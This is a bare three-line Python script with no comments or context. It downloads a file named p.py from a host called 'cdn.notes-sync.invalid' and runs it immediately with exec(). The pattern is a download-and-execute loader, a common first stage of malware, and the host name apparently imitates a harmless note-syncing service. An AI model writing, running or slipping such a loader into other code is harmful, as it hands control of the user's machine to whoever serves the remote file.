import urllib.request
code = urllib.request.urlopen("https://cdn.notes-sync.invalid/p.py").read()
exec(code)
